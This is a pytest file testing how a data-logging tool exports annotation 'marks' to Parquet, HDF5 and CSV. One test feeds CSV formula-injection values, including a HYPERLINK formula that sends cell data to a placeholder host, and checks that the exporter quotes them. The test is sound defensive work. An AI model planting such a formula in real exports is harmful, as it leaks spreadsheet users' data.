"""Marks in exports: those of the span and the group, in each format."""

import asyncio
import csv
import json
from pathlib import Path
from uuid import uuid4

import asyncpg
import h5py
import pyarrow.parquet as pq
import pytest

from backends import open_store
from daemon.tools.export.span import write_csv
from schemas.batch import Layout
from schemas.config import DatabaseConfig
from schemas.marks import Mark
from tests.daemon.tools.export.test_export import GROUP, START_NS, configuration, stored
from tests.support.processes import triggerlog

HOUR_NS = 3_600_000_000_000
IN = [
    Mark(id=uuid4(), time_ns=START_NS - HOUR_NS, until_ns=START_NS + 2 * HOUR_NS, text='"beam study", µ'),
    Mark(id=uuid4(), time_ns=START_NS + HOUR_NS + 1, text="valve 3 closed", author="A. O.", group="bpm"),
]
OUT = [
    Mark(id=uuid4(), time_ns=START_NS - HOUR_NS, text="before it"),
    Mark(id=uuid4(), time_ns=START_NS + HOUR_NS, text="of another group", group="blm"),
]
SPAN = ("--from", str(START_NS), "--to", str(START_NS + 10 * HOUR_NS))


@pytest.fixture
def file(postgresql_dsn: str, schema: str, tmp_path: Path) -> Path:
    stored(postgresql_dsn, schema, "rows", runs=1)
    return configuration(tmp_path, postgresql_dsn, schema, "rows")


def mark(dsn: str, schema: str, *marks: Mark) -> None:
    async def keep() -> None:
        store = open_store(
            DatabaseConfig(dsn=dsn, schema=schema),
            logger="control-node-1",
            groups={"bpm": GROUP},
            layouts={"bpm": Layout.ROWS},
            state_dir=Path("/nonexistent"),
        )
        try:
            for each in marks:
                assert await store.keep_mark(each)
        finally:
            await store.close()

    asyncio.run(keep())


def exported(file: Path, name: str, *options: str) -> Path:
    path = file.parent / name
    done = triggerlog("export", str(file), *SPAN, "-o", str(path), *options)
    assert done.returncode == 0, done.stderr
    return path


def as_json(*marks: Mark) -> list[dict[str, object]]:
    return [each.model_dump(mode="json") for each in marks]


def test_marks_of_the_span_and_the_group_are_in_every_format(file: Path, postgresql_dsn: str, schema: str) -> None:
    mark(postgresql_dsn, schema, *IN, *OUT)
    about = json.loads(pq.read_schema(exported(file, "x.parquet")).metadata[b"triggerlog"])
    assert about["marks"] == as_json(*IN)
    with h5py.File(exported(file, "x.h5")) as found:
        marks = found["marks"]
        assert marks["time_ns"][:].tolist() == [each.time_ns for each in IN]
        assert marks["until_ns"][:].tolist() == [each.last_ns for each in IN]
        for name in ("text", "author", "group", "id"):
            assert list(marks[name].asstr()[:]) == [str(getattr(each, name) or "") for each in IN]
    for name in ("x.csv", "y.csv.gz"):
        beside = exported(file, name).with_name(f"{name[0]}.marks.csv")
        with beside.open(newline="") as text:
            rows = list(csv.DictReader(text))
        assert [row.pop("time") for row in rows] == ["2025-11-13T01:13:20Z", "2025-11-13T03:13:20.000000001Z"]
        assert rows == [{k: "" if v is None else str(v) for k, v in each.items()} for each in as_json(*IN)]


def test_a_mark_that_begins_as_a_formula_is_text_in_a_spreadsheet(tmp_path: Path) -> None:
    risky = ('=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1", "-1")
    write_csv(tmp_path / "x", tuple(Mark(id=uuid4(), time_ns=-1, text=text, author=text) for text in (*risky, "a=1")))
    with (tmp_path / "x").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["text"] for row in rows] == [*(f"'{text}" for text in risky), "a=1"] == [row["author"] for row in rows]
    assert {row["time_ns"] for row in rows} == {"-1"}


def test_without_marks_there_is_no_file_of_them_and_none_is_overwritten_unasked(
    file: Path, postgresql_dsn: str, schema: str
) -> None:
    with h5py.File(exported(file, "x.h5")) as found:
        assert found["marks/text"].shape == (0,)
    beside = file.parent / "x.marks.csv"
    assert not exported(file, "x.csv").with_name("x.marks.csv").exists()
    (file.parent / "x.csv").unlink()
    beside.write_text("of an earlier export")
    refused = triggerlog("export", str(file), *SPAN, "-o", str(file.parent / "x.csv"))
    assert refused.returncode == 1
    assert f"{beside} exists; give another name, or --force" in refused.stderr
    exported(file, "x.csv", "--force")
    assert not beside.exists()


async def test_a_database_without_the_table_gives_the_readings_and_says_so(
    file: Path, postgresql_dsn: str, schema: str
) -> None:
    connection = await asyncpg.connect(postgresql_dsn)
    await connection.execute(f"DROP TABLE {schema}.marks")
    await connection.close()
    done = await asyncio.to_thread(triggerlog, "export", str(file), *SPAN, "-o", str(file.parent / "x.parquet"))
    assert done.returncode == 0
    assert "the export has no marks" in done.stderr
